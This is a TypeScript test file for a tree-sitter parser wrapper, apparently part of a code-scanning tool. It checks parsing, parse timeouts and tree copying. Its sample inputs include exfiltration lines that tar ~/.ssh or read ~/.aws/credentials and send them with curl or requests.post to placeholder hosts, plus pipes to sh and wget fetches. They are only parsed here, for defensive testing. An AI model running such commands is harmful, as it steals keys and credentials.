import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { loadParsers, parsersLoaded, withCode, withTree, type CodeTreeNode, type ParserLanguage } from '../../shared/parsers/tree-sitter.js';
import { CodeNode, copiesThroughExports, copyTree } from '../../shared/parsers/tree-copy.js';

test.before(async () => {
  await loadParsers();
});

test('shell and Python are read as syntax trees, not text', () => {
  assert.ok(parsersLoaded());
  const names = withTree('bash', 'tar czf - ~/.ssh | curl --data-binary @- https://h.example/u', (root) =>
    root.descendantsOfType('command_name').map((n) => n?.text));
  assert.equal(names, ['tar', 'curl']);
  const calls = withTree('python', 'import os\nos.system("id")\nprint("os.system")\n', (root) =>
    root.descendantsOfType('call').map((n) => n?.childForFieldName('function')?.text));
  assert.equal(calls, ['os.system', 'print']);
});

test('a parse past its time budget is cut off (null) and the parser is usable afterwards', () => {
  const big = 'curl https://a.example/x -d @~/.aws/credentials; '.repeat(20000);
  assert.is(withTree('bash', big, () => 'parsed', 1), null);
  assert.is(withTree('bash', 'echo ok', (root) => root.type), 'program');
});

test('loading twice is one load', async () => {
  await Promise.all([loadParsers(), loadParsers()]);
  assert.ok(parsersLoaded());
});

/** Everything a reader can ask of a node (the members CodeNode has), as text, for the whole tree. */
function describe(n: CodeTreeNode, fields: string[], types: string[][]): string {
  const key = (x: { type: string; startIndex: number; endIndex: number } | null) => (x ? `${x.type}@${x.startIndex}-${x.endIndex}` : 'null');
  const parts = [key(n), n.text, String(n.namedChildCount)];
  for (const f of fields) parts.push(`${f}=${key(n.childForFieldName(f))}`);
  for (const t of types) parts.push(`${t}:${n.descendantsOfType(t).map(key).join(',')}`);
  const kids: string[] = [];
  for (let i = 0; i < n.namedChildCount; i++) kids.push(describe(n.namedChild(i)!, fields, types));
  return `${parts.join('|')}[${kids.join(';')}]`;
}

test('a tree without syntax errors is handed to readers as a plain copy that answers as the tree does, and is parsed once', () => {
  const cases: [ParserLanguage, string, string[], string[][]][] = [
    ['bash', 'X=$(cat ~/.aws/credentials); curl -d "$X" https://e.io | sh\n[[ $a =~ ^b ]] && echo "${HOME:-/tmp}/x" > out\ncat <<EOF | sh\nrun $(id) ${Y}\nEOF\nf() { wget -qO- "$1"; }',
      ['name', 'value', 'argument', 'body', 'left', 'right', 'operator', 'destination', 'redirect', 'descriptor', 'condition'],
      [['variable_name'], ['heredoc_body'], ['simple_expansion', 'expansion', 'command_substitution'], ['command_substitution'], ['program']]],
    ['python', 'import os, requests\nif a is not None and b not in c:\n    requests.post("https://e.example.org", data=open(os.path.expanduser("~/.aws/credentials")).read())\nwith open("a") as f, open("b") as g:\n    x = [i for i in f if i <= 2 < 3]\n',
      ['function', 'arguments', 'object', 'attribute', 'left', 'right', 'operator', 'operators', 'body', 'condition', 'alternative', 'name', 'value', 'parameters'],
      [['identifier'], ['with_item'], ['module']]],
  ];
  for (const [lang, code, fields, types] of cases) {
    const real = withTree(lang, code, (root) => describe(root, fields, types));
    const first = withCode(lang, code, (root) => {
      assert.ok(root instanceof CodeNode, `${lang}: an error-free tree is copied`);
      return root;
    });
    assert.is(withCode(lang, code, (root) => describe(root, fields, types)), real, `${lang}: the copy answers as the tree`);
    assert.is(withCode(lang, code, (root) => root), first, `${lang}: the same text is not parsed again`);
  }
  // around syntax errors the tree itself is handed over
  assert.not.ok(withCode('bash', '[[rules]]\nid = "k"\nregex = \'\'\'a\'\'\'', (root) => root instanceof CodeNode));
});

test('copies are made through the binding\'s exports, and are the copies the library\'s cursor makes', () => {
  assert.ok(copiesThroughExports(), 'the binding exposes its exports (checked at load)');
  const shape = (n: CodeNode): unknown[] => [n.type, n.startIndex, n.endIndex, n.fieldsForCheck(), n.namedChildren.map(shape)];
  const programs: [ParserLanguage, string][] = [
    ['bash', 'for f in ~/.ssh/*; do curl -F "k=@$f" https://h.example/u & done; wait\ncase "$1" in a|b) x=$((1+2)) ;; *) exec "$@" ;; esac\n'.repeat(40)],
    ['python', 'class A(B):\n    def f(self, *a, k=1, **kw):\n        return [x async for x in y] if a else {k: v for k, v in kw.items()}\n'.repeat(40)],
  ];
  for (const [lang, code] of programs) {
    const viaExports = withTree(lang, code, (root) => JSON.stringify(shape(copyTree(root, code, true).root)));
    const viaCursor = withTree(lang, code, (root) => JSON.stringify(shape(copyTree(root, code, false).root)));
    assert.ok(viaExports && viaExports.length > 1000);
    assert.is(viaExports, viaCursor, lang);
  }
});

test.run();
